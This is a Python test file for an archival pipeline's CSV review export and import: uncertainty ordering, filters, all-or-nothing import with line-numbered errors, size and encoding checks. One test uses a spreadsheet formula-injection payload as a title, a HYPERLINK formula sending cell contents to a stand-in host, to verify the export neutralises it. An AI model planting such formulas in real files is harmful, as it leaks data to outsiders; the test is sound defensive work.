"""The archivists' CSV loop: export least certain first; import all rows or none."""

import csv

import pytest

from pipeline.records import Record, Release
from pipeline.review import ReviewFileError, export_reviews, import_reviews
from pipeline.store import Store


@pytest.fixture
def store(tmp_path):
    with Store(tmp_path / "p.db") as s:
        for rid, score in (("sure", 0.99), ("unsure", 0.52)):
            rel = Release(id=rid, title=f"Title {rid}", body="Body", date="2024-01-02")
            s.upsert_release(rel)
            record = Record.assemble(rel, None, None, [], {})
            record.themes = [{"id": "migration_health", "score": score, "evidence": ["cholera"]}]
            record.primary_theme = "migration_health"
            record.theme_scores = {"migration_health": score, "emergency_response": 0.1}
            s.save_record(record, rel.content_hash)
        yield s


def write_csv(path, rows):
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "themes", "primary_theme", "reviewer"])
        w.writerows(rows)


def test_export_puts_the_least_certain_release_first(store, tmp_path):
    out = tmp_path / "review.csv"
    assert export_reviews(store, out, {"migration_health": 0.5, "emergency_response": 0.5}) == 2
    rows = list(csv.DictReader(open(out)))
    assert [r["id"] for r in rows] == ["unsure", "sure"]
    assert rows[0]["evidence"] == "migration_health: cholera"


def test_export_filters_by_theme_since_and_limit(store, tmp_path):
    out = tmp_path / "r.csv"
    assert export_reviews(store, out, {}, theme="labour_mobility") == 0
    assert export_reviews(store, out, {}, since="2025-01-01") == 0
    assert export_reviews(store, out, {}, limit=1) == 1


def test_import_stores_reviews_with_reviewer_and_time(store, tmp_path):
    path = tmp_path / "in.csv"
    write_csv(path, [["unsure", "emergency_response;migration_health", "emergency_response",
                      "ana"]])
    assert import_reviews(store, path) == 1
    [review] = store.latest_reviews()
    assert review["themes"] == ["emergency_response", "migration_health"]
    assert review["reviewer"] == "ana" and review["reviewed_at"]


def test_a_file_with_a_bad_row_imports_nothing_and_names_the_line(store, tmp_path):
    path = tmp_path / "in.csv"
    write_csv(path, [["sure", "migration_health", "migration_health", "ana"],
                     ["nope", "migration_health", "migration_health", "ana"],
                     ["unsure", "not_a_theme", "not_a_theme", "ana"],
                     ["unsure", "migration_health", "emergency_response", "ana"]])
    with pytest.raises(ReviewFileError) as err:
        import_reviews(store, path)
    problems = err.value.problems
    assert any(":3: unknown release id 'nope'" in p for p in problems)
    assert any(":4: unknown theme id" in p for p in problems)
    assert any(":5: primary" in p for p in problems)
    assert store.count("reviews") == 0


def test_a_formula_in_a_title_reaches_the_review_csv_as_text(store, tmp_path):
    rel = Release(id="-evil", title='=HYPERLINK("http://x.example/?"&A1,"click")', body="Body",
                  date="2024-01-03")
    store.upsert_release(rel)
    record = Record.assemble(rel, None, None, [], {})
    record.themes = [{"id": "migration_health", "score": 0.9, "evidence": []}]
    record.primary_theme = "migration_health"
    store.save_record(record, rel.content_hash)
    out = tmp_path / "review.csv"
    export_reviews(store, out, {})
    rows = {r["id"]: r for r in csv.DictReader(open(out, newline=""))}
    assert rows["'-evil"]["title"] == "'" + rel.title
    # The archivist fills in the review and imports the same file: ids come back exactly.
    with open(out, newline="") as fh:
        lines = list(csv.DictReader(fh))
    for row in lines:
        row["reviewer"] = "ana"
    with open(out, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(lines[0]))
        w.writeheader()
        w.writerows(lines)
    assert import_reviews(store, out) == 3
    assert "-evil" in {r["release_id"] for r in store.latest_reviews()}


def test_a_cell_over_the_csv_field_limit_is_one_problem_naming_the_line(store, tmp_path):
    path = tmp_path / "in.csv"
    write_csv(path, [["sure", "migration_health", "migration_health", "ana"],
                     ["unsure", "migration_health", "migration_health", "x" * 300_000]])
    with pytest.raises(ReviewFileError) as err:
        import_reviews(store, path)
    [problem] = err.value.problems
    assert problem.startswith(f"{path}:3: ") and "field larger than field limit" in problem
    assert store.count("reviews") == 0


def test_a_file_that_is_not_utf8_is_one_problem(store, tmp_path):
    path = tmp_path / "in.csv"
    path.write_bytes(b"id,themes,primary_theme\nsure,\xff\xfe,x\n")
    with pytest.raises(ReviewFileError) as err:
        import_reviews(store, path)
    assert "not UTF-8" in err.value.problems[0]
